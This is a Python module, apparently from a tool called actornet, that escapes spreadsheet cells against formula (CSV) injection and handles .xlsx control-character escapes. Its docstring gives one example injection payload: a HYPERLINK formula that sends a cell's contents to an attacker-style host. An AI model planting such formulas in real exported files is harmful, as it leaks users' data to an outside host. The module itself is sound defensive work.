"""Spreadsheet cells that cannot run as formulas, and read back unchanged.

A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula (and some strip a leading tab or carriage return first),
so a name such as ``=HYPERLINK("http://evil.example/?x="&A1,"click")`` in
an exported file would become a live link. Following OWASP's advice on CSV
injection, the CSV and Excel writers put a single quote ``'`` in front of
such a text cell; the readers take exactly that quote away again.

The rule (a bijection, so export -> read gives the same network):

* Write ``s`` as ``'`` + ``s`` when, after any leading quotes, ``s`` begins
  with ``=``, ``+``, ``-``, ``@`` or white space (tab, carriage return,
  space, ...), or when ``s`` ends with white space. Otherwise write ``s``.
* On reading, a cell that begins with ``'`` and whose rest would have been
  escaped loses that one quote (and nothing else: not its white space);
  any other cell is read as before (surrounding white space removed).

So ``'=1+1`` reads as ``=1+1``, ``''=1+1`` as ``'=1+1``, while ``'quoted'``
or ``'s-Hertogenbosch`` read as written. Numbers (weights, years,
coordinates) are written as numbers and never escaped.

An .xlsx file is XML, which cannot hold most control characters and turns a
carriage return into a line break; there text also uses the workbook
format's own escape, as Excel writes it: such a character is ``_xHHHH_``
(``_x000D_`` for a carriage return) and a literal ``_x`` that would read as
one is written ``_x005F_x`` (:func:`xlsx_text`, undone by
:func:`xlsx_untext`).
"""

from __future__ import annotations

import re

__all__ = ["escape_cell", "unescape_cell", "read_cell", "xlsx_text", "xlsx_untext",
           "FORMULA_TRIGGERS"]

#: First characters that make a spreadsheet cell a formula (OWASP).
FORMULA_TRIGGERS = frozenset("=+-@\t\r")


def _needs_quote(text: str) -> bool:
    """Whether ``text`` must be written with a leading quote."""
    if not text:
        return False
    rest = text.lstrip("'")
    if rest and (rest[0] in FORMULA_TRIGGERS or rest[0].isspace()):
        return True
    return text[-1].isspace()


def escape_cell(value):
    """A cell value safe to write to a spreadsheet; non-text passes unchanged.

    Examples
    --------
    >>> escape_cell("=1+1"), escape_cell("-5"), escape_cell(-5), escape_cell("Berlin")
    ("'=1+1", "'-5", -5, 'Berlin')
    >>> escape_cell("'=1+1"), escape_cell("'s-Hertogenbosch"), escape_cell("\\tx")
    ("''=1+1", "'s-Hertogenbosch", "'\\tx")
    """
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """Undo :func:`escape_cell` on a cell's text (exactly one quote, when it was added).

    Examples
    --------
    >>> unescape_cell("'=1+1"), unescape_cell("''=1+1"), unescape_cell("'quoted'")
    ('=1+1', "'=1+1", "'quoted'")
    """
    if text[:1] == "'" and _needs_quote(text[1:]):
        return text[1:]
    return text


def read_cell(text: str) -> str:
    """A cell as read from a file: an escaped cell unescaped (its white space
    kept), any other cell with surrounding white space removed.

    Examples
    --------
    >>> read_cell("  Berlin "), read_cell("' padded "), read_cell(" '=1+1 ")
    ('Berlin', ' padded ', '=1+1')
    """
    if text[:1] == "'" and _needs_quote(text[1:]):
        return text[1:]
    return unescape_cell(text.strip())


_XLSX_UNSAFE = re.compile("[\x00-\x08\x0b\x0c\r\x0e-\x1f\ufffe\uffff]|_(?=x[0-9A-Fa-f]{4}_)")
_XLSX_ESCAPED = re.compile("_x([0-9A-Fa-f]{4})_")


def xlsx_text(value):
    """Text as stored in an .xlsx cell: characters XML cannot hold as ``_xHHHH_``.

    Examples
    --------
    >>> xlsx_text("a\\rb"), xlsx_text("_x0041_"), xlsx_text(5)
    ('a_x000D_b', '_x005F_x0041_', 5)
    """
    if not isinstance(value, str):
        return value
    return _XLSX_UNSAFE.sub(
        lambda m: "_x005F_" if m.group() == "_" else f"_x{ord(m.group()):04X}_", value)


def xlsx_untext(text: str) -> str:
    """Undo :func:`xlsx_text` (and Excel's own ``_xHHHH_`` escapes).

    Examples
    --------
    >>> xlsx_untext("a_x000D_b"), xlsx_untext("_x005F_x0041_")
    ('a\\rb', '_x0041_')
    """
    if "_x" not in text:
        return text
    return _XLSX_ESCAPED.sub(lambda m: chr(int(m.group(1), 16)), text)


#: The bytes a cell's first character may start with when it is white space
#: (ASCII white space but the line end, or the lead byte of U+0085, U+00A0,
#: U+1680, U+2000-U+205F, U+3000), and those its last character may end with.
_LEADING_SPACE = b"\t\x0b\x0c\r" + bytes(range(0x1C, 0x21)) + b"\xc2\xe1\xe2\xe3"
_TRAILING_SPACE = b"\t\x0b\x0c\r" + bytes(range(0x1C, 0x21)) + \
    bytes(range(0x80, 0x8B)) + b"\x9f\xa0\xa8\xa9\xaf"


def cells_may_need_stripping(text: bytes, delimiter: str) -> bool:
    """Whether a cell of the delimited lines ``text`` (UTF-8, no quoting) may
    begin or end with white space (``str.strip`` would change it); False
    only when none can.

    Looks at the bytes next to each delimiter and line end only: a few
    passes over an array, where stripping every cell costs a call per cell.

    Examples
    --------
    >>> cells_may_need_stripping(b"a b,c\\nd,e\\n", ",")
    False
    >>> cells_may_need_stripping(b"a ,c\\n", ","), cells_may_need_stripping(b"a,\\xc2\\xa0c\\n", ",")
    (True, True)
    """
    import numpy as np  # lazy: `actornet --help` stays fast

    data = np.frombuffer(text, np.uint8)
    if not data.shape[0]:
        return False
    bounds = np.zeros(data.shape[0] + 2, bool)  # a cell edge before/after each byte
    bounds[[0, -1]] = True
    bounds[1:-1] = (data == ord(delimiter)) | (data == ord("\n"))
    leading, trailing = np.zeros(256, bool), np.zeros(256, bool)
    leading[list(_LEADING_SPACE)] = True
    trailing[list(_TRAILING_SPACE)] = True
    return bool((leading[data] & bounds[:-2]).any() or (trailing[data] & bounds[2:]).any())
